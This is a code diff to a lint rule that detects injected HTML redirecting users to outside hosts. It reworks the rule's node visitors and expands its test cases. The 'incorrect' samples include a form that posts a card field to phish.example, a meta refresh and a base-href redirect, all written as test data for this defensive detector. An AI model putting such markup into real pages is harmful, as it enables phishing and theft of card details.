@@ -23,32 +23,25 @@ export const markup = defineRule({
       incorrect: [
         'root.innerHTML = \'<form action="https://phish.example/in"><input name="card"></form>\'',
         "document.write(`<meta http-equiv=refresh content='0;url=https://phish.example'>`)",
-        'const page = "<base href=//phish.example/>"',
+        'const page = "<base href=//phish.example/>"; document.head.insertAdjacentHTML("beforeend", page)',
       ],
-      correct: ['root.innerHTML = \'<form id="f"><input name="weight"></form>\'', 'const help = "<a href=https://docs.example>Help</a>"'],
+      correct: [
+        'code.textContent = "<form action=https://docs.example/in>"',
+        'root.innerHTML = \'<form id="f"><input name="weight"></form>\'',
+        'const help = "<a href=https://docs.example>Help</a>"',
+      ],
     },
   },
   create({ file, report }) {
-    // The left parts of a longer sum, which was judged as a whole.
-    const inner = new Set<Node>();
-    const judge = (node: Node & { start: number; end: number }, text: string): void => {
-      if (!text.includes("<")) return;
+    const judge = (node: Node & { start: number; end: number }): void => {
+      const text = file.markupOf(node);
+      if (text === undefined) return;
       if (refresh.test(text)) report({ messageId: "refresh", at: node });
       const action = outsideHost(form.exec(text)?.[1] ?? "");
       if (action !== undefined) report({ messageId: "form", at: node, data: { host: action } });
       const moved = outsideHost(base.exec(text)?.[1] ?? "");
       if (moved !== undefined) report({ messageId: "base", at: node, data: { host: moved } });
     };
-    return {
-      Literal(node) {
-        if (typeof node.value === "string") judge(node, node.value);
-      },
-      TemplateLiteral: (node) => judge(node, node.quasis.map((quasi) => quasi.value.cooked ?? "").join("x")),
-      BinaryExpression(node) {
-        inner.add(node.left);
-        const text = inner.has(node) ? undefined : file.valueOf(node);
-        if (typeof text === "string") judge(node, text);
-      },
-    };
+    return { AssignmentExpression: judge, CallExpression: judge, Property: judge, TaggedTemplateExpression: judge };
   },
 });
